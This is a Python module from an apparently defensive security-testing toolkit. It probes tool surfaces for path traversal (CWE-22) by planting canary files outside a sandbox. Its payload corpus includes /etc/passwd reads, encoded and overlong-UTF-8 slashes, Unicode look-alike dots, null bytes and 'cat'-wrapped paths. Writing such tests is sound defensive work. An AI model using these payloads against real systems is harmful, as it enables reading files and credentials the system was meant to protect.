"""T-TRAV-001: path traversal out of a surface's sandbox (CWE-22)."""

from __future__ import annotations

import os
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from attacks.base import AttackContext, AttackSpec, Target, register, take
from attacks.mutate import mutations
from toolkit.core.model import Finding, Severity

PASSWD_MARK = "root:x:0:0:"  # pragma: allowlist secret
UP = "../"


@dataclass(frozen=True)
class Probe:
    path: str
    tokens: tuple[str, ...]
    why: str
    real: Path | None = None  # the outside file this path reaches if it escapes (write oracle)
    system: bool = False  # names a system file: never sent to a surface that writes


@dataclass
class Plant:
    """Canaries outside the sandbox: its parent, a sibling sharing its name as prefix, a far
    folder.
    """

    near_name: str
    near_content: str
    sibling: str | None
    sibling_content: str
    far: Path
    far_content: str
    sandbox: Path | None
    near: Path | None = None
    sibling_path: Path | None = None


def plant(ctx: AttackContext, sandbox: Path | None, writes: bool = False,
          typed: bool = False) -> Plant:
    """Readable canaries, or for a surface that writes, fresh outside names that must stay
    absent. ``typed``: the target accepted only the image form of the planted file (a server
    of one file type), so the canaries are images too, their text the canary.
    """
    make = _absent if writes else (_image(ctx) if typed else ctx.canaries.file)
    far, far_content = make(ctx.canaries.work / "far")
    near_name, near_content, sibling, sibling_content, near, sib = (
        far.name,
        far_content,
        None,
        "",
        None,
        None,
    )
    if sandbox is not None and sandbox.parent.is_dir():
        near, near_content = make(sandbox.parent)
        near_name = near.name
        sib_dir = Path(str(sandbox) + "_x")
        if ctx.canaries.folder(sib_dir) is not None or not sib_dir.exists():
            sib, sibling_content = make(sib_dir)
            sibling = f"{sib_dir.name}/{sib.name}"
    if writes:
        for path in (far, near, sib):
            if path is not None:
                ctx.canaries.claim(path)  # journals its name too
    return Plant(
        near_name, near_content, sibling, sibling_content, far, far_content, sandbox, near, sib
    )


def _image(ctx: AttackContext) -> Callable[[Path], tuple[Path, str]]:
    import secrets

    from toolkit.core.baseline import svg

    def make(folder: Path) -> tuple[Path, str]:
        text = f"CANARY-{secrets.token_hex(16)}"
        path, _ = ctx.canaries.file(folder, f"toolkit-canary-{secrets.token_hex(6)}.svg",
                                    svg(text))
        return path, text

    return make


def _absent(folder: Path) -> tuple[Path, str]:
    import secrets

    folder.mkdir(parents=True, exist_ok=True)
    return folder / f"toolkit-canary-{secrets.token_hex(6)}.txt", f"CANARY-{secrets.token_hex(16)}"


def corpus(p: Plant, folder: str = "") -> Iterator[Probe]:
    """Deterministic corpus, most telling first. ``folder``: a folder planted in the sandbox,
    to descend through before climbing (a server that hands the string to open() needs each
    component to exist; one that checks the string's first component sees no '..').
    """
    n, c, near = p.near_name, (p.near_content,), p.near or p.far
    yield Probe(UP + n, c, "relative, depth 1", near)
    yield Probe("./" + UP + n, c, "dot-prefixed", near)
    yield Probe("a/" + UP * 2 + n, c, "descend then climb", near)
    if folder:
        yield Probe(folder + "/" + UP * 2 + n, c, "descend through a real folder, then climb",
                    near)
        yield Probe(folder + "/..%2f..%2f" + n, c,
                    "descend through a real folder, climb with encoded slashes", near)
    if p.sibling:
        yield Probe(
            UP + p.sibling,
            (p.sibling_content,),
            "sibling folder sharing the sandbox prefix",
            p.sibling_path,
        )
        if p.sandbox is not None:
            yield Probe(str(p.sandbox) + "_x/" + p.sibling.split("/", 1)[1], (p.sibling_content,),
                        "absolute path into the prefix-sharing sibling", p.sibling_path)
    yield Probe(str(p.far), (p.far_content,), "absolute path", p.far)
    yield Probe(
        UP * 12 + str(p.far).lstrip("/"), (p.far_content,), "climb to / then down, depth 12", p.far
    )
    yield Probe("/etc/passwd", (PASSWD_MARK,), "absolute system file", system=True)
    yield Probe(UP * 10 + "etc/passwd", (PASSWD_MARK,), "relative system file", system=True)
    yield Probe("..\\" + n, c, "backslash separator", near)
    yield Probe("..%2f" + n, c, "URL-encoded slash", near)
    yield Probe("%2e%2e%2f" + n, c, "URL-encoded dots and slash", near)
    yield Probe("..%252f" + n, c, "double URL-encoding", near)
    yield Probe("..%c0%af" + n, c, "overlong UTF-8 slash", near)
    yield Probe("\u2025/" + n, c, "NFKC look-alike two-dot leader", near)
    yield Probe("\uff0e\uff0e/" + n, c, "fullwidth dots", near)
    yield Probe(UP + n + ".", c, "trailing dot", near)
    yield Probe(UP + n + " ", c, "trailing space", near)
    yield Probe('"' + UP + n + '"', c, "quoted", near)
    yield Probe(UP + n + "\x00.txt", c, "null byte", near)
    yield Probe("....//" + n, c, "nested dots survive one strip of ../")
    yield Probe("..", (n,), "parent folder listing")
    yield Probe(UP, (n,), "parent folder listing, trailing slash")
    yield Probe(str(p.far.parent), (p.far.name,), "absolute folder listing")


def in_form(probes: list[Probe], form: str, sandbox: Path | None) -> list[Probe]:
    """The relative probes rewritten in the form the target accepted (sandbox-prefixed,
    ./-prefixed).
    """
    if sandbox is None or not form:
        return []
    if "absolute" in form:
        prefix = str(sandbox) + "/"
    elif form.startswith("./"):
        prefix = "./"
    else:
        return []
    return [
        Probe(
            prefix + pr.path,
            pr.tokens,
            f"{pr.why}, in the accepted form ({form})",
            pr.real,
            pr.system,
        )
        for pr in probes
        if not pr.path.startswith("/") and not pr.path.startswith("./")
    ]


def repo_probes(ctx: AttackContext, sandbox: Path | None) -> list[Probe]:
    """For a tool that wants a repository: the canary outside is a repository too."""
    from toolkit.core.baseline import git

    if sandbox is None or not sandbox.parent.is_dir():
        return []
    tag = ctx.canaries.token()
    repo = sandbox.parent / f"toolkit-canary-repo-{tag}"
    if ctx.canaries.tree(repo) is None:
        return []
    ctx.canaries.name(repo)
    ctx.canaries.file(repo, f"toolkit-canary-untracked-{tag}.txt")
    ok = git(["init", "-q", "-b", f"canary-{tag}", "."], repo)
    if not ok or not git(["commit", "-q", "--allow-empty", "-m", f"canary commit {tag}"], repo):
        return []
    tokens = (f"canary-{tag}", f"canary commit {tag}", f"toolkit-canary-untracked-{tag}")
    return [
        Probe(UP + repo.name, tokens, "another repository, relative"),
        Probe(str(repo), tokens, "another repository, absolute path"),
        Probe(
            str(sandbox) + "/" + UP + repo.name,
            tokens,
            "another repository, sandbox-prefixed climb",
        ),
        Probe(str(sandbox) + "_x", (), "sibling sharing the sandbox prefix"),
    ]


@register
class PathTraversal:
    """Path traversal (CWE-22).

    Asks a path surface (or an allowed reading command on an argv/command surface) for
    canary files planted outside its sandbox: in the sandbox's parent, in a sibling folder
    that shares the sandbox's name as a prefix (``<sandbox>_x``), and in a far temporary
    folder, by relative paths at several depths, absolute paths, URL, double and
    overlong-UTF-8 encodings, backslashes, NFKC look-alikes, trailing dot, space or
    quote, and null bytes; relative probes are also sent in the form the target's
    baseline accepted (absolute, ``./``). When the tool wants a repository, the canary
    outside is a repository too (its branch, commit and untracked file are the tokens),
    so "opened another repository" is told from "not a repository". A finding needs the
    canary's *content* (or, for a folder, a canary's name) in the reply and absent from
    the baseline. When only the image copy of the planted probe was accepted (a server of
    one file type), the canaries are SVG images whose text is the canary. On a surface that
    writes, the outside names do not exist and the
    oracle is their appearing; system files are never written to.
    """

    spec = AttackSpec("T-TRAV-001", "traversal", "Path traversal out of the sandbox", 22,
                      Severity.HIGH, ("path", "argv", "command"))

    def run(self, ctx: AttackContext, target: Target) -> Iterable[Finding]:
        cls = _class_for(target)
        if cls is None:
            return
        from toolkit.core.baseline import TYPED_FORM, repository_typed

        writes = bool(target.surface.get("writes", False)) and cls == "path"
        p = plant(ctx, target.surface.sandbox, writes, typed=target.form == TYPED_FORM)
        folder = getattr(target.planted, "folder_name", "") if cls == "path" else ""
        base = list(corpus(p, folder or ""))
        probes = in_form(base[:9], target.form, target.surface.sandbox) + base
        if cls == "path" and repository_typed(target.surface):
            probes = repo_probes(ctx, target.surface.sandbox) + probes
        if ctx.budget == "deep":
            probes += [Probe(m, pr.tokens, f"mutation of: {pr.why}", pr.real)
                       for pr in base[:6] for m in mutations(pr.path, ctx.seed, 6)]
        if writes:
            probes = [pr for pr in probes if not pr.system]
        reader = _reader(ctx)
        for probe in take(probes, ctx.limit):
            payload = _wrap(cls, probe.path, reader)
            reply, found = ctx.probe(
                self.spec, target, cls, payload, probe.tokens, probe.why, "canary"
            )
            if found:
                yield found
            elif writes and probe.real is not None and os.path.lexists(probe.real):
                yield ctx.finding(
                    self.spec,
                    target,
                    cls,
                    payload,
                    reply,
                    f"{probe.why}: a write created {probe.real.name} outside the sandbox",
                    f"write:{probe.why}",
                )


def _class_for(target: Target) -> str | None:
    for cls in ("path", "argv", "command"):
        if cls in target.surface.classes:
            return cls
    return None


def _reader(ctx: AttackContext) -> str:
    allowed = ctx.contract.policy.allowed_commands
    for cmd in ("cat", "head", "tail", "less", "more", "type"):
        if cmd in allowed:
            return cmd
    return "cat"


def _wrap(cls: str, path: str, reader: str) -> Any:
    if cls == "argv":
        return [reader, path]
    if cls == "command":
        return f"{reader} {path}"
    return path
